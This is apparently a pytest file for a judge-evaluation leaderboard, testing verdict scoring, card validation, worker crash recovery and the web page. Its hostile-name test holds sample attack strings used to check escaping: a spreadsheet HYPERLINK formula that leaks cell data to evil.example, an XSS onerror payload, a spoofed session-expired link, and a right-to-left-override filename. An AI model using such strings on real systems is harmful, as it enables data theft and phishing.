"""The board's Judges track: a judge's verdicts go store → worker → ranked row with the figures worked by hand on
a VL-RewardBench fixture in its upstream layout (and exactly what ``mmjudge judge-card --verdicts`` gives); a
``card.json`` is checked row by row, a bad row refused in one line, the rest shown as reported by the submitter
and never ranked with the board's rows; a hostile judge name is text on the page, in the Markdown and in the CSV;
a worker killed mid-job leaves the job to the next one, which commits what one uninterrupted run commits; the
page has the Judges tab and its ``/judges_table`` endpoint. No judge is loaded anywhere: verdicts only."""

import csv
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import zipfile

import pytest

from judge_benchmarks import write_vl_rewardbench
from mmjudge.leaderboard import views
from mmjudge.leaderboard.client import describe
from mmjudge.leaderboard.intake import submit
from mmjudge.leaderboard.job_folder import JOBS
from mmjudge.leaderboard.judge_benchmarks import demo_card, demo_verdicts
from mmjudge.leaderboard.records import Status
from mmjudge.leaderboard.settings import DEFAULTS
from mmjudge.leaderboard.store import Store
from mmjudge.leaderboard.worker import Worker
from mmjudge.report import markdown_text
from repo_paths import ROOT

SETTINGS = {**DEFAULTS, "judge": "dummy", "bootstrap": 200, "rate_limit": 1000}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
DEMO = "demo-judge-pairs"


def jsonl(rows) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


@pytest.fixture(scope="module")
def vlrb(tmp_path_factory):
    return str(write_vl_rewardbench(tmp_path_factory.mktemp("vlrb") / "vlrb"))


@pytest.fixture
def registry(monkeypatch):
    """The benchmarks configured here are gone after the test."""
    from mmjudge.leaderboard import benchmarks

    monkeypatch.setattr(benchmarks, "_REGISTRY", dict(benchmarks._REGISTRY))
    monkeypatch.setattr(benchmarks, "_BUILT", dict(benchmarks._BUILT))


# The fixture's six pairs (id → the index of the response people preferred, its group as cal.py reads it) and
# the verdicts of a judge worked by hand: right, wrong, right, right, a tie (half), right → 4.5 / 6 = 0.75.
# Groups: general (fx-3, fx-6) 2/2 = 1.0, hallucination (fx-1, fx-2) 1/2 = 0.5, reasoning (fx-4, fx-5)
# 1.5/2 = 0.75; macro (1.0 + 0.5 + 0.75) / 3 = 0.75. Always the first response: right on fx-1, fx-3, fx-5 → 0.5.
HAND = {
    "RLAIF-V-fx-1": 0,
    "hallucination_pair-fx-2": 0,
    "wildvision-battle-fx-3": 0,
    "mathverse_fx-4": 1,
    "mmmu-pro_fx-5": 0.5,
    "svit_fx-6": 1,
}


def verdicts(table) -> bytes:
    return jsonl({"id": i, "preferred": v} for i, v in table.items())


def test_verdicts_go_through_the_board_to_a_ranked_row_with_the_accuracy_worked_by_hand(tmp_path, vlrb, registry):
    from mmjudge.judge_card.run import Settings, judge_card

    settings = {**SETTINGS, "benchmarks": [{"name": "vl_rewardbench", "track": "judges", "data_dir": vlrb}]}
    store = Store(tmp_path / "board")
    worker = Worker(store, settings, progress=False)  # configures vl_rewardbench-judges from the settings
    bench = "vl_rewardbench-judges"
    ids = {}
    for name, table in (
        ("hand-worked", HAND),
        ("always-first", dict.fromkeys(HAND, 0)),
        ("silent-once", {**HAND, "svit_fx-6": None}),
    ):
        receipt = submit(store, track="judges", benchmark=bench, name=name, submitter="ana", data=verdicts(table))
        assert receipt.accepted, receipt.message
        ids[name] = receipt.id
    assert worker.run(once=True) == 3
    assert {str(s.status) for s in store.submissions()} == {"DONE"}

    [table] = views.tables(store, "judges", bench, settings=settings)
    rows = {r["name"]: r for r in table["rows"]}
    assert rows["hand-worked"]["rank"] == 1 and rows["hand-worked"]["value"] == pytest.approx(0.75)
    assert rows["always-first"]["rank"] == 2 and rows["always-first"]["value"] == pytest.approx(0.5)
    assert rows["hand-worked"]["n"] == 6 and rows["hand-worked"]["ci_low"] <= 0.75 <= rows["hand-worked"]["ci_high"]
    # One item without a verdict in six is 16.7% > 5%: listed with its figure (3.5 / 5 = 0.7), never ranked.
    silent = rows["silent-once"]
    assert silent["rank"] is None and silent["value"] == pytest.approx(0.7) and silent["failed"] == 1
    assert silent["note"] == "not ranked: no answer on 1 of 6 items (16.7%), more than the 5% allowed"
    assert rows["always-first"]["separable"] in (True, False)  # told from the two rows' bootstrap values

    # The board's figures are the judge card's: the same rows as `mmjudge judge-card --verdicts` on the same file.
    (tmp_path / "v.jsonl").write_bytes(verdicts(HAND))
    card = judge_card(
        ["vl_rewardbench"],
        Settings(
            data_dirs={"vl_rewardbench": vlrb},
            verdicts={"vl_rewardbench": str(tmp_path / "v.jsonl")},
            bootstrap=SETTINGS["bootstrap"],
        ),
    )
    stored = store.result(ids["hand-worked"]).summary["figures"]
    assert [{k: v for k, v in r.items() if k != "replicates"} for r in stored] == card.rows
    by = {(r["subset"], r["measure"]): r["value"] for r in stored}
    assert by[("general", "accuracy")] == 1.0 and by[("hallucination", "accuracy")] == 0.5
    assert by[("reasoning", "accuracy")] == 0.75 and by[("", "macro_accuracy")] == pytest.approx(0.75)

    # Filters: a subset, another measure.
    [group] = views.tables(store, "judges", bench, {"subset": "hallucination"}, settings)
    assert {r["name"]: r["value"] for r in group["rows"]} == {
        "hand-worked": 0.5,
        "always-first": 0.5,
        "silent-once": 0.5,
    }
    assert [r["rank"] for r in group["rows"]] == [1, 1, None]
    [macro] = views.tables(store, "judges", bench, {"measure": "macro_accuracy"}, settings)
    assert macro["rows"][0]["name"] == "hand-worked" and macro["rows"][0]["value"] == pytest.approx(0.75)

    # What the submitter is told, and the submission's page: every row of its card.
    status = views.standing(store, ids["hand-worked"], settings)
    assert describe(status).startswith("DONE: rank 1 of 2 by value = 0.750 [") and status["failed"] == 0
    page, breakdown = views.submission_view(store, ids["hand-worked"], settings)
    assert "**Figures scored by the board**" in page and "**no answer**: 0 of 6 items (0.0%)" in page
    assert len(breakdown) == len(card.rows) and set(breakdown["subset"]) >= {"(all)", "general", "RLAIF-V"}
    view = views.track_view(store, "judges", bench, settings=settings)
    assert list(view.table.columns[:5]) == ["rank", "name", "accuracy", "interval", "vs above"]
    assert "**Scored by the board**" in view.caption and "Subsets: MMMU-Pro, MathVerse, POVID" in view.caption


def test_a_caption_set_ranks_judges_by_its_tau_and_tells_a_copy_of_the_humans_from_noise(tmp_path, registry):
    """Ratings benchmarks (the caption sets): ``{"id", "score"}`` per caption, ranked by the benchmark's Kendall τ
    (Flickr8k-Expert: τ-c) from the card; "vs above" from the meta-evaluation's bootstrap values, which are the
    same resamples for every judge."""
    import random

    from mmjudge.judge_card.benchmarks import JUDGE_BENCHMARKS
    from mmjudge.judge_card.ratings import read_judgments
    from mmjudge.judge_card.run import Settings, judge_card
    from repo_paths import FIXTURES

    folder = str(FIXTURES / "flickr8k_expert")
    settings = {**SETTINGS, "benchmarks": [{"name": "flickr8k_expert", "track": "judges", "data_dir": folder}]}
    store = Store(tmp_path / "board")
    worker = Worker(store, settings, progress=False)
    human: dict[str, list[float]] = {}
    for r in read_judgments(JUDGE_BENCHMARKS["flickr8k_expert"], folder, {}, None).ratings:
        human.setdefault(r["id"], []).append(float(r["score"]))
    rng = random.Random(0)
    judges = {
        "copies-the-mean": {i: sum(v) / len(v) for i, v in human.items()},
        "coin": {i: rng.random() for i in human},
    }
    for name, scores in judges.items():
        data = jsonl({"id": i, "score": s} for i, s in scores.items())
        assert submit(store, track="judges", benchmark="flickr8k_expert-judges", name=name, submitter="a", data=data)
    assert worker.run(once=True) == 2
    [table] = views.tables(store, "judges", "flickr8k_expert-judges", settings=settings)
    first, second = table["rows"]
    assert (first["name"], second["name"], table["measure"]) == ("copies-the-mean", "coin", "tau_c")
    assert first["value"] > 0.8 and abs(second["value"]) < 0.3 and second["separable"] is True
    (tmp_path / "coin.jsonl").write_bytes(jsonl({"id": i, "score": s} for i, s in judges["coin"].items()))
    card = judge_card(
        ["flickr8k_expert"],
        Settings(
            data_dirs={"flickr8k_expert": folder},
            verdicts={"flickr8k_expert": str(tmp_path / "coin.jsonl")},
            bootstrap=SETTINGS["bootstrap"],
        ),
    )
    assert (second["value"], second["ci_low"], second["ci_high"]) == tuple(
        card.rows[0][k] for k in ("value", "low", "high")
    )


@pytest.mark.parametrize(
    "change, message",
    [
        (
            lambda rows: rows[:1] + [{**rows[1], "benchmark": "vl_rewardbnech"}],
            "card row 2: unknown benchmark 'vl_rewardbnech'; a card's are vl_rewardbench, mm_rewardbench, ",
        ),
        (
            lambda rows: [{**rows[0], "measure": "f1"}],
            "card row 1: vl_rewardbench has no measure 'f1'; its measures are accuracy, macro_accuracy, position_",
        ),
        (
            lambda rows: [{**rows[0], "value": 1.2, "high": 1.3}],
            "card row 1 (vl_rewardbench accuracy): `value` must be a number in [0, 1], but got 1.2.",
        ),
        (
            lambda rows: [{**rows[0], "low": 0.7}],
            "card row 1 (vl_rewardbench accuracy): expected low ≤ value ≤ high, but got low 0.7, value 0.62, high 0.65",
        ),
        (
            lambda rows: [{**rows[0], "n": 0}],
            "card row 1 (vl_rewardbench accuracy): `n` must be positive for a figure with a value.",
        ),
        (
            lambda rows: [{**rows[0], "judge": "x"}],
            "card row 1: expected the fields benchmark, subset, measure, value, low, high, n (as `mmjudge judge-card` ",
        ),
        (
            lambda rows: rows[:1] + [{**rows[4], "subset": "general"}],
            'card row 2: vl_rewardbench gives macro_accuracy over the whole benchmark only (subset must be "").',
        ),
        (
            lambda rows: rows[:1] + [{**rows[1], "subset": "sports"}],
            "card row 2: subset 'sports' is not one of vl_rewardbench's on this board (MMMU-Pro, MathVerse, POVID, ",
        ),
        (lambda rows: rows + rows[:1], "card row 7: vl_rewardbench accuracy is given twice."),
        (
            lambda rows: [{**r, "benchmark": "pascal50s"} for r in rows if not r["subset"]][:1],
            "the card has no accuracy figure over all of vl_rewardbench, the benchmark this board scores as; its rows ",
        ),
    ],
)
def test_a_card_with_a_bad_row_is_refused_in_one_line(tmp_path, change, message):
    store = Store(tmp_path)
    data = json.dumps(change(demo_card()), indent=1).encode()
    receipt = submit(store, track="judges", benchmark=DEMO, name="my-judge", submitter="ana", data=data)
    assert not receipt.accepted and receipt.message.startswith(f"invalid file: {message}"), receipt.message
    assert "\n" not in receipt.message and store.submissions() == []


@pytest.mark.parametrize(
    "body, message",
    [
        (jsonl(demo_verdicts("careful")[:-1]), "missing 1 id(s) of the benchmark: 'demo-mathverse-4'; give every "),
        (jsonl(demo_verdicts("careful") + [{"id": "nope", "preferred": 0}]), "1 verdict(s) name ids the benchmark "),
        (jsonl([{**demo_verdicts("careful")[0], "preferred": 2}]), "line 1: `preferred` must be 0, 1 or 0.5 "),
        (jsonl([{"id": "demo-wildvision-1", "text": "A red circle."}]), "line 1: expected `preferred`, but the "),
        (b'{"id": "demo-wildvision-1", "preferred": 0}\n{"id": ', "line 2: not JSON ("),
        (b"[1, 2", "not a card.json: not valid JSON ("),
    ],
)
def test_a_bad_verdict_file_is_refused_in_one_line(tmp_path, body, message):
    receipt = submit(Store(tmp_path), track="judges", benchmark=DEMO, name="my-judge", submitter="ana", data=body)
    assert not receipt.accepted and receipt.message.startswith(f"invalid file: {message}"), receipt.message


def test_an_api_judges_card_with_its_usage_rows_is_accepted(tmp_path):
    """A card from an API judge carries what the run used (tokens, and $ where the model has a list price):
    the board must take it as `judge-card` wrote it, and still refuse a usage figure that cannot be."""
    from mmjudge.judge_card.run import usage_rows

    usage = usage_rows(
        "vl_rewardbench", {}, {"requests": 48, "prompt_tokens": 9600, "completion_tokens": 48, "cost_usd": 0.1}
    )
    assert [r["measure"] for r in usage] == ["tokens", "cost_usd"]
    store = Store(tmp_path)
    card = json.dumps(demo_card() + usage).encode()
    assert submit(store, track="judges", benchmark=DEMO, name="api-judge", submitter="ana", data=card).accepted
    negative = json.dumps(demo_card() + [{**usage[1], "value": -0.1}]).encode()
    refused = submit(store, track="judges", benchmark=DEMO, name="api-judge", submitter="ana", data=negative)
    assert not refused.accepted and "cost_usd" in refused.message and "\n" not in refused.message, refused.message


def test_a_card_is_shown_as_reported_never_ranked_with_the_boards_rows(tmp_path):
    store = Store(tmp_path)
    for name, data in (("scored", jsonl(demo_verdicts("careful"))), ("claimed", json.dumps(demo_card()).encode())):
        assert submit(store, track="judges", benchmark=DEMO, name=name, submitter="ana", data=data).accepted
    Worker(store, SETTINGS, progress=False).run(once=True)
    board, reported = views.tables(store, "judges", DEMO, settings=SETTINGS)
    assert [r["name"] for r in board["rows"]] == ["scored"] and board["rows"][0]["value"] == 0.875
    assert [r["name"] for r in reported["rows"]] == ["claimed"] and reported["source"] == "reported"
    row = reported["rows"][0]
    assert (row["value"], row["ci_low"], row["ci_high"], row["n"], row["separable"]) == (0.62, 0.59, 0.65, 1247, None)
    caption = views.track_view(store, "judges", DEMO, group=1, settings=SETTINGS).caption
    assert caption.split(": figures")[0].endswith("**Reported by the submitters**") and "source=reported" in caption
    assert "1 other signature group(s) are listed separately" in caption
    sid = row["id"]
    page, breakdown = views.submission_view(store, sid, SETTINGS)
    assert "**Figures reported by the submitter** (a `card.json` as uploaded" in page
    assert list(breakdown["measure"]) == [r["measure"] for r in demo_card()]


def test_a_hostile_judge_name_is_text_in_the_page_the_markdown_and_the_csv(tmp_path):
    from mmjudge.leaderboard.handlers import Board

    store = Store(tmp_path)
    names = [FORMULA, "<img src=x onerror=alert(1)>", "[Session expired](https://evil.example/)"]
    for k, name in enumerate(names):
        careful = demo_verdicts("careful")  # right on 21 of 24; one more wrong (a pair it had right): 20 / 24
        flipped = [{**v, "preferred": 1 - v["preferred"]} if j == k + 5 else v for j, v in enumerate(careful)]
        assert submit(store, track="judges", benchmark=DEMO, name=name, submitter="@cmd", data=jsonl(flipped)).accepted
    refused = submit(store, track="judges", benchmark=DEMO, name="\u202egnp.exe\u202c", submitter="x", data=b"")
    assert refused.message.startswith("the name holds invisible characters that change how it is shown (U+202E")
    Worker(store, SETTINGS, progress=False).run(once=True)
    board = Board(str(tmp_path), SETTINGS)
    table, caption, csv_button, json_button = board.table("judges", DEMO, 0, "", "headline")
    assert "**Scored by the board**" in caption and not any(n in caption for n in names)
    with open(csv_button.value["path"], encoding="utf-8", newline="") as f:
        shown = {r["name"]: r for r in csv.DictReader(f)}
    assert set(shown) == {"'" + FORMULA, names[1], names[2]} and {r["submitter"] for r in shown.values()} == {"'@cmd"}
    assert {float(r["value"]) for r in shown.values()} == {0.833333}
    with open(json_button.value["path"], encoding="utf-8") as f:
        assert sorted(r["name"] for r in json.load(f)) == sorted(names)  # the JSON keeps the text
    for sid, name in ((s.id, s.name) for s in store.submissions()):
        page, _ = views.submission_view(store, sid, SETTINGS)
        assert f"### {markdown_text(name)}" in page and "<img" not in page and "](https:" not in page


def test_the_inputs_give_the_pairs_without_the_answer_key_and_the_guide_the_commands(tmp_path):
    import pyarrow.parquet as pq

    from mmjudge.leaderboard.benchmarks import get_benchmark
    from mmjudge.leaderboard.export import guide, inputs_file

    bench = get_benchmark(DEMO)
    with zipfile.ZipFile(inputs_file(bench, tmp_path, "zip")) as zf:
        items = [json.loads(line) for line in zf.read(f"{DEMO}/inputs.jsonl").decode().splitlines()]
        example = [json.loads(line) for line in zf.read(f"{DEMO}/example_submission.jsonl").decode().splitlines()]
        assert zf.read(f"{DEMO}/{items[0]['image']}").startswith(b"\x89PNG")
    assert items[0]["responses"] == ["A red circle on white.", "A busy red street."] and len(items) == 24
    assert not {"preferred", "human_ranking", "group"} & set(items[0]) and example[0] == {
        "id": "demo-wildvision-1",
        "preferred": 0,
    }
    table = pq.read_table(inputs_file(bench, tmp_path, "parquet"))
    assert table.column("responses").to_pylist()[1] == ["A busy blue street.", "A blue square on white."]
    text = guide(bench, "http://board", SETTINGS)
    assert (
        f"mmjudge leaderboard submit --url http://board --benchmark {DEMO} --file verdicts.jsonl --name my-judge"
        in text
    )


# ------------------------------------------------------------------------------ a killed worker
DYING_WORKER = textwrap.dedent(
    """
    import json, os, signal, sys
    from mmjudge.leaderboard.store import Store
    from mmjudge.leaderboard.tracks import get_track
    from mmjudge.leaderboard.worker import Worker

    track = get_track("judges")
    scored = type(track).score

    def dying(self, job):  # the card is worked out, then the worker dies before it commits anything
        scored(self, job)
        os.kill(os.getpid(), signal.SIGKILL)

    type(track).score = dying
    Worker(Store(sys.argv[1]), json.loads(sys.argv[2]), lease_s=1.0, progress=False).run_once()
    """
)


def test_a_worker_killed_mid_job_leaves_the_job_to_the_next_which_commits_the_same_result(tmp_path):
    board = tmp_path / "board"
    store = Store(board)
    data = jsonl(demo_verdicts("careful"))
    sid = submit(store, track="judges", benchmark=DEMO, name="m", submitter="s", data=data).id
    script = tmp_path / "dying.py"
    script.write_text(DYING_WORKER, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    dying = subprocess.run([sys.executable, str(script), str(board), json.dumps(SETTINGS)], env=env, timeout=240)
    assert dying.returncode == -signal.SIGKILL
    assert store.get(sid).status is Status.RUNNING and store.result(sid) is None
    assert (board / JOBS / sid / "verdicts.jsonl").is_file()  # the job's folder, left by the killed worker
    time.sleep(1.2)  # the dead worker's lease runs out
    assert Worker(store, SETTINGS, progress=False).run_once() == sid
    assert store.get(sid).status is Status.DONE and store.get(sid).attempts == 2
    assert not (board / JOBS / sid).exists()  # removed once the result was committed

    whole = Store(tmp_path / "whole")
    other = submit(whole, track="judges", benchmark=DEMO, name="m", submitter="s", data=data).id
    Worker(whole, SETTINGS, progress=False).run_once()
    assert (
        store.result(sid).summary == whole.result(other).summary and store.result(sid).rows == whole.result(other).rows
    )
    assert store.result(sid).signature == whole.result(other).signature


def test_the_page_has_the_judges_tab_and_its_table_endpoint(tmp_path):
    pytest.importorskip("gradio")
    gradio_client = pytest.importorskip("gradio_client")
    import httpx

    from mmjudge.leaderboard.app import build_app, launch

    demo = build_app(str(tmp_path), {**SETTINGS, "demo": True})
    _, url, _ = launch(demo, host="127.0.0.1", prevent_thread_lock=True, quiet=True)
    try:
        config = httpx.get(f"{url.rstrip('/')}/config", timeout=30).json()
        tabs = [c["props"].get("label") for c in config["components"] if c.get("type") == "tabitem"]
        assert tabs[:4] == ["Models", "Metrics", "Arena", "Judges"], tabs
        client = gradio_client.Client(url, verbose=False)
        upload = tmp_path / "verdicts.jsonl"
        upload.write_bytes(jsonl(demo_verdicts("first-slot")))
        reply = client.predict(
            "judges", DEMO, "first-slot", "ana", "", "", gradio_client.handle_file(str(upload)), api_name="/submit"
        )
        assert "received: submission" in reply, reply
        Worker(Store(tmp_path), SETTINGS, progress=False).run(once=True)
        [row] = client.predict(DEMO, "", "headline", api_name="/judges_table")
        assert row["name"] == "first-slot" and row["accuracy"] == 0.5 and row["rank"] == 1
        formats = {b["name"]: b for b in client.predict(api_name="/benchmarks")}
        assert formats[DEMO]["track"] == "judges" and sorted(formats[DEMO]["fields"]) == ["id", "preferred"]
    finally:
        demo.close()
